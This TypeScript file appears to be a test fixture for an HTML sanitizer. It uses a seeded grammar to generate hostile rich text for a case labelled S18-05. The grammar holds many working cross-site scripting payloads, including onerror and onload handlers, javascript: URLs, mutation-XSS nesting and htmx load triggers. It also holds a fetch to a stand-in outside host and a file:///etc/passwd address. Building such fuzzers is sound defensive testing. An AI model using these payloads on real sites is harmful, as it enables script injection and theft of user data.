/** A small generator of numbers: the same seed gives the same text on every machine. */
function numbers(seed: number): (below: number) => number {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

/** What each hostile text tries: to set this on the window, or to fetch this. */
export const FLAG = 'prise';
const ELSEWHERE = 'https://exterieur.example';

const RUN = [`window.${FLAG}=1`, `top.${FLAG}=1`, `this[&quot;${FLAG}&quot;]=1`, `fetch('${ELSEWHERE}/vol')`];

/** Each word of the grammar is a choice among these; a name in « » is another word of it. */
const GRAMMAR: Record<string, string[]> = {
  text: ['«piece»', '«piece»«text»', '«piece»«text»«text»'],
  piece: ['«words»', '«element»', '«open»«text»', '«text»«close»', '«comment»', '«whole»', '<«tag» «attributes»'],
  words: [
    'mot',
    'école',
    '{{identifiant}}',
    '{{{body}}}',
    '&lt;script&gt;',
    '&#60;img src=x&#62;',
    '<',
    '>',
    '"',
    '&',
    '\u0000',
    '\u2028',
    ']]>',
    '-->',
  ],
  element: [
    '<«tag» «attributes»>«text»</«tag»>',
    '<«tag»/«attributes»>',
    '<«tag»\n«attributes»\t>«text»</«tag» >',
    '<«odd»>«text»</«odd»>',
  ],
  open: [
    '<«tag» «attributes»>',
    '<svg>',
    '<math><mtext>',
    '<style>',
    '<noscript>',
    '<title>',
    '<textarea>',
    '<select>',
    '<template>',
    '<xmp>',
    '<plaintext>',
  ],
  close: ['</«tag»>', '</svg>', '</style>', '</noscript>', '</title>', '</textarea>', '</main>', '</body>', '</html>'],
  comment: [
    '<!--«text»-->',
    '<!--',
    '<!-->«text»-->',
    '<!--[if gte mso 9]>«text»<![endif]-->',
    '<![if !vml]>«text»<![endif]>',
    '<!DOCTYPE «text»>',
    '<?xml «text»?>',
    '<![CDATA[«text»]]>',
  ],
  whole: [
    '<script>«run»</script>',
    '<script src="«elsewhere»/x.js"></script>',
    '<img src=x onerror="«run»">',
    '<img src="«elsewhere»/suivi.gif" srcset="«elsewhere»/2.gif 2x">',
    '<svg onload="«run»"><script>«run»</script><use href="«elsewhere»/x.svg#a"/></svg>',
    '<svg><animate onbegin="«run»" attributeName="x" dur="1s"/><a xlink:href="javascript:«run»"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=«run»&gt;">',
    '<iframe srcdoc="<script>«run»</script>" src="«elsewhere»"></iframe>',
    '<object data="«elsewhere»/x.swf"><embed src="«elsewhere»/x.swf"></object>',
    '<form action="«elsewhere»/vol" id="form-form"><input name="body" autofocus onfocus="«run»"><button formaction="«elsewhere»">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=«elsewhere»"><base href="«elsewhere»/">',
    '<link rel="stylesheet" href="«elsewhere»/x.css"><style>@import url(«elsewhere»/y.css); *{background:url(«elsewhere»/z)}</style>',
    '<video poster="«elsewhere»/p.png" src="«elsewhere»/v.mp4" autoplay></video><audio src="«elsewhere»/a.mp3" autoplay></audio>',
    '<div hx-get="«elsewhere»/x" hx-trigger="load" hx-on:load="«run»" data-hx-get="«elsewhere»/y" data-hx-trigger="load">x</div>',
    '<details open ontoggle="«run»"><summary>x</summary></details><marquee onstart="«run»">x</marquee>',
    '<p style="mso-list:l0"><span style="mso-list:Ignore">1.<img src=x onerror="«run»"></span>«text»</p>',
    '<picture><source srcset="«elsewhere»/s.png"><img src="«elsewhere»/i.png" loading="eager"></picture>',
  ],
  attributes: ['', '«attribute»', '«attribute» «attributes»', '«attribute»/«attribute»'],
  attribute: [
    '«event»="«run»"',
    "«event»='«run»'",
    '«event»=«run»',
    'href="«address»"',
    'src="«address»"',
    'style="background:url(«elsewhere»/f.gif);position:fixed;inset:0"',
    'id="contenu"',
    'name="body"',
    'class="btn first"',
    'data-rich=""',
    'hx-post="«address»" hx-trigger="load"',
    'xlink:href="«address»"',
    'target="_blank"',
    'title="><script>«run»</script>"',
    'background="«elsewhere»/b.gif"',
  ],
  address: [
    'javascript:«run»',
    'JaVa&#10;Script:«run»',
    ' javascript:«run»',
    'data:text/html,<script>«run»</script>',
    'vbscript:«run»',
    '//exterieur.example/x',
    '/connexion/',
    'https://exemple.fr/"onmouseover="«run»',
    'https://exemple.fr',
    'mailto:a@exemple.fr',
    'file:///etc/passwd',
    'blob:«elsewhere»/x',
    '\u0001javascript:«run»',
  ],
  event: [
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onanimationstart',
    'ONERROR',
    'onpointerover',
    'on\u0000error',
    'formaction',
  ],
  tag: [
    'p',
    'a',
    'b',
    'img',
    'div',
    'span',
    'table',
    'td',
    'ul',
    'li',
    'h1',
    'svg',
    'math',
    'input',
    'video',
    'script',
    'style',
    'iframe',
    'body',
    'template',
    'mtext',
    'foreignObject',
    'A',
    'ScRiPt',
  ],
  odd: ['x-y', 'o:p', 'v:shape', 'svg:script', 'a\u0000', 'p"', 'scr<script>ipt'],
  run: RUN,
  elsewhere: [ELSEWHERE],
};

/** One hostile rich text (S18-05), always the same for one seed. */
export function hostile(seed: number): string {
  const draw = numbers(seed);
  let left = 60;
  const said = (word: string): string => {
    const choices = GRAMMAR[word] as string[];
    left -= 1;
    // A text that has grown enough takes the first, shortest way out.
    const chosen = (left > 0 ? choices[draw(choices.length)] : choices[0]) as string;
    return chosen.replace(/«(\w+)»/g, (_, next: string) => said(next));
  };
  return `${said('text')}${said('whole')}${said('text')}`;
}
